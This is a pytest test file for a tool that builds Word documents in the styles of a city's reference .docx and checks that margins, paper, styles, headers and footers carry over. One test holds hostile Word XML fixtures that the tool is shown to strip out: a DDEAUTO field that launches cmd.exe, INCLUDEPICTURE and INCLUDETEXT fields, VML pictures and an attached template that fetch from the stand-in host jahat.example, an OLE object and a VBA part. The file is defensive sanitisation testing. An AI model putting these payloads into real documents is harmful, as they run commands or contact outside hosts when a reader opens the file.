"""Word books in the styles of a city's own document, and what of that document never comes along."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from docx.shared import Mm
from support.pictures import png, repacked
from support.sample_book import OWN, PAPER

from bimtek_tui.books.office.formats import FORMATS, Paper, make
from bimtek_tui.books.office.look import Logo, Look


def opened(content: bytes) -> Any:
    return docx.Document(io.BytesIO(content))


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def reference(change: Callable[[Any], object] = lambda _file: None, **changed: bytes | None) -> bytes:
    """A document of a city on F4 with wide margins, own styles, and head and foot, after this change."""
    file = docx.Document()
    section = file.sections[0]
    section.page_width, section.page_height = Mm(215), Mm(330)
    section.left_margin = section.right_margin = section.top_margin = section.bottom_margin = Mm(40)
    file.styles["Heading 1"].font.name = "Bookman Old Style"
    file.styles["Normal"].paragraph_format.first_line_indent = Mm(12)
    section.header.paragraphs[0].add_run("Kop dari Bappeda").add_picture(io.BytesIO(png()))
    section.footer.paragraphs[0].text = "Naskah"
    change(file)
    made = io.BytesIO()
    file.save(made)
    return repacked(made.getvalue(), changed)


def with_reference(
    content: bytes, markdown: str = OWN, paper: Paper | None = None, **keys: Any
) -> tuple[Any, list[str]]:
    told: list[str] = []
    seen = Look(reference=content, reference_name="gaya.docx", **keys)
    return opened(make("docx", markdown, None, paper, seen, told.append)), told


def test_word_books_have_styles_margins_paper_head_and_foot_of_the_reference() -> None:
    file, told = with_reference(reference())
    assert file.styles["Heading 1"].font.name == "Bookman Old Style"
    cover, *others = file.sections
    for section in others:
        across = section.orientation == 1
        assert abs((section.page_height if across else section.page_width) - Mm(215)) < Mm(1)
        assert abs(section.left_margin - Mm(40)) < Mm(1)
        assert section.header.paragraphs[0].text == "Kop dari Bappeda"
        assert section.footer.paragraphs[0].text == "Naskah"
        assert len(section.header.part.related_parts) == 1, "with its picture"
    assert cover.page_width == others[0].page_width
    tables = [sum(cell.width for cell in one.rows[0].cells) for one in file.tables]
    assert abs(tables[0] - Mm(215 - 80)) < Mm(1), "tables fit between its margins"
    (sentence,) = told
    assert "“gaya.docx”" in sentence
    assert "TOC 1, TOC 2, Table of Figures" in sentence
    assert {"toc 1", "Isi Tabel", "Sampul"} <= {one.name for one in file.styles}
    assert file.styles["Isi Tabel"].paragraph_format.first_line_indent == 0, (
        "cells don't begin as far in as paragraphs"
    )
    assert file.styles["Heading 1"].paragraph_format.page_break_before, "chapters begin on their own pages"


def test_a_book_in_the_styles_of_a_city_is_known_as_ours_and_is_the_same_every_time() -> None:
    content = reference()
    books = [
        make("docx", OWN, None, None, Look(reference=content, reference_name="gaya.docx")) for _ in range(2)
    ]
    assert books[0] == books[1]
    assert FORMATS["docx"].whose(books[0]) == "ours"
    assert FORMATS["docx"].whose(repacked(books[0], {"word/kota-header-default.xml": b"<a/>"})) == "edited"


def test_a_paper_that_is_asked_for_goes_before_that_of_the_reference() -> None:
    section = with_reference(reference(), paper="a4")[0].sections[1]
    assert abs(section.page_width - Mm(210)) < Mm(1)
    assert abs(section.left_margin - Mm(40)) < Mm(1)


def test_styles_are_known_by_their_names_whatever_word_calls_them_inside() -> None:
    content = reference()
    styles = parts(content)["word/styles.xml"].decode()
    styles = styles.replace('w:styleId="Heading1"', 'w:styleId="Judul1"').replace(
        'w:val="Heading1"', 'w:val="Judul1"'
    )
    styles = styles.replace('w:styleId="Title"', 'w:styleId="Sampul"')  # ours has this id
    file, _told = with_reference(repacked(content, {"word/styles.xml": styles.encode()}))
    titles = [one for one in file.paragraphs if one.text == "PENDAHULUAN" and one.style.name == "Heading 1"]
    assert [one.style.font.name for one in titles] == ["Bookman Old Style"]
    ids = [one.style_id for one in file.styles]
    assert len(ids) == len(set(ids))
    assert next(one.style.name for one in file.paragraphs if one.text == "Buku 2 Masterplan") == "Title"


def test_a_reference_without_head_or_foot_gets_ours_and_a_letterhead_goes_before_its_head() -> None:
    def bare(file: Any) -> None:
        section = file.sections[0]
        section.header.is_linked_to_previous = section.footer.is_linked_to_previous = True

    file, _told = with_reference(reference(bare), place="Kota Uji")
    assert file.sections[1].header.paragraphs[0].text == "Buku 2 Masterplan\tKota Uji"
    assert list(file.sections[1].footer._element.iter(qn("w:instrText")))
    paper, _told = with_reference(reference(), PAPER, letterhead=("DINAS",))
    assert not paper.sections[0].different_first_page_header_footer, "its own head stands for a letterhead"
    own, _told = with_reference(reference(), PAPER, letterhead=("DINAS",), has_own_letterhead=True)
    assert next(one.text for one in own.sections[0].first_page_header.paragraphs) == "DINAS"


def test_the_first_page_of_the_reference_is_the_first_of_a_paper_and_no_cover() -> None:
    def letter(file: Any) -> None:
        section = file.sections[0]
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = "Kop surat"
        file.settings.odd_and_even_pages_header_footer = True

    paper, _told = with_reference(reference(letter), PAPER, letterhead=("DINAS",))
    assert paper.sections[0].first_page_header.paragraphs[0].text == "Kop surat"
    book, _told = with_reference(reference(letter))
    assert not any(one.different_first_page_header_footer for one in book.sections)
    assert not list(book.sections[0]._sectPr.iter(qn("w:headerReference")))
    assert book.settings.odd_and_even_pages_header_footer
    assert book.sections[1].even_page_footer.paragraphs[0].text == "Naskah", (
        "where it has no other for even pages"
    )


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FIELDS = (
    '<w:p xmlns:w="{W}"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>hasil</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
SPLIT = (
    '<w:p xmlns:w="{W}"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> PAGE</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>hasil</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
EVIL: dict[str, str] = {
    "a field that starts a program": FIELDS.format(W=W, code='DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "a field that fetches": FIELDS.format(W=W, code="INCLUDEPICTURE http://jahat.example/a.png"),
    "a field put together of two": SPLIT.format(W=W),
    "a simple field": f'<w:p xmlns:w="{W}"><w:fldSimple w:instr="INCLUDETEXT http://jahat.example"><w:r><w:t>hasil</w:t></w:r></w:fldSimple></w:p>',
    "an embedded object": f'<w:p xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:r><w:t>hasil</w:t><w:object><o:OLEObject r:id="rId77"/></w:object></w:r></w:p>',
    "a linked picture": f'<w:p xmlns:w="{W}" xmlns:r="{R}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:r><w:t>hasil</w:t></w:r><w:r><w:drawing><a:blip r:link="rId78"/></w:drawing></w:r></w:p>',
    "an old picture from elsewhere": f'<w:p xmlns:w="{W}" xmlns:v="urn:schemas-microsoft-com:vml"><w:r><w:t>hasil</w:t></w:r><w:r><w:pict><v:imagedata src="http://jahat.example/a.png"/></w:pict></w:r></w:p>',
    "a link": f'<w:p xmlns:w="{W}" xmlns:r="{R}"><w:hyperlink r:id="rId78"><w:r><w:t>hasil</w:t></w:r></w:hyperlink></w:p>',
}
OUTSIDE = (
    f'<Relationship Id="rId77" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rId78" Type="{R}/image" Target="http://jahat.example/a.png" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize("what", EVIL)
def test_nothing_that_runs_or_leads_out_of_a_reference_comes_along(what: str) -> None:
    def put(file: Any) -> None:
        file.sections[0].header._element.append(parse_xml(EVIL[what]))

    content = reference(put)
    listed = "word/_rels/header1.xml.rels"
    outside = parts(content)[listed].replace(b"</Relationships>", OUTSIDE.encode())
    template = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
    content = repacked(
        content,
        {
            listed: outside,
            "word/_rels/settings.xml.rels": template.encode(),
            "word/vbaProject.bin": b"MZ",
            "word/embeddings/oleObject1.bin": b"MZ",
        },
    )
    told: list[str] = []
    book = parts(
        make("docx", OWN, None, None, Look(reference=content, reference_name="gaya.docx"), told.append)
    )
    assert not [name for name in book if "vba" in name or "embeddings" in name or "settings.xml.rels" in name]
    assert b"jahat" not in b"".join(book.values())
    assert b"External" not in b"".join(book[name] for name in book if name.endswith(".rels"))
    (head,) = [book[name].decode() for name in book if name.startswith("word/kota-header")]
    assert "hasil" in head, "what it showed stays"
    assert not re.search(r"DDE|INCLUDE|OLEObject|QUOTE|r:link|instrText", head.replace("<w:t>DDE</w:t>", ""))
    opened(make("docx", OWN, None, None, Look(reference=content, reference_name="gaya.docx"), told.append))


def test_a_harmless_field_of_the_reference_goes_on_counting() -> None:
    def put(file: Any) -> None:
        file.sections[0].footer._element.append(parse_xml(FIELDS.format(W=W, code=" PAGE \\* MERGEFORMAT")))

    file, _told = with_reference(reference(put))
    assert [one.text for one in file.sections[1].footer._element.iter(qn("w:instrText"))] == [
        " PAGE \\* MERGEFORMAT"
    ]


BROKEN: dict[str, bytes] = {
    "no zip": b"halo",
    "a head that is no XML": repacked(reference(), {"word/header1.xml": b"<w:hdr"}),
    "a head that declares entities": repacked(
        reference(), {"word/header1.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}
    ),
    "a head that is something else": repacked(reference(), {"word/header1.xml": b"<a/>"}),
    "a head without end": repacked(reference(), {"word/header1.xml": b" " * 9 * 2**20}),
}


@pytest.mark.parametrize("what", BROKEN)
def test_a_reference_that_can_not_be_read_is_left_out_and_told(what: str) -> None:
    file, told = with_reference(BROKEN[what])
    assert file.styles["Heading 1"].font.name is None
    (sentence,) = told
    assert "“reference_doc”" in sentence
    assert "gaya.docx" in sentence


@pytest.mark.office
@pytest.mark.skipif(
    not (shutil.which("soffice") and shutil.which("pdftotext")),
    reason="LibreOffice or pdftotext is not installed",
)
def test_libreoffice_opens_a_book_in_the_styles_of_a_city(
    tmp_path: Path,
) -> None:
    told: list[str] = []
    seen = Look(
        reference=reference(),
        reference_name="gaya.docx",
        government="Kota Uji",
        logo=Logo(png(), "png", 60, 72),
    )
    (tmp_path / "buku.docx").write_bytes(make("docx", OWN, None, None, seen, told.append))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "buku.docx",
        ],
        check=True,
        cwd=tmp_path,
        capture_output=True,
        timeout=180,
    )
    done = subprocess.run(["pdftotext", "buku.pdf", "-"], check=True, cwd=tmp_path, capture_output=True)
    cover, *others = done.stdout.decode().split("\f")[:-1]
    assert "Kop dari Bappeda" not in cover
    assert all("Kop dari Bappeda" in page and "Naskah" in page for page in others)
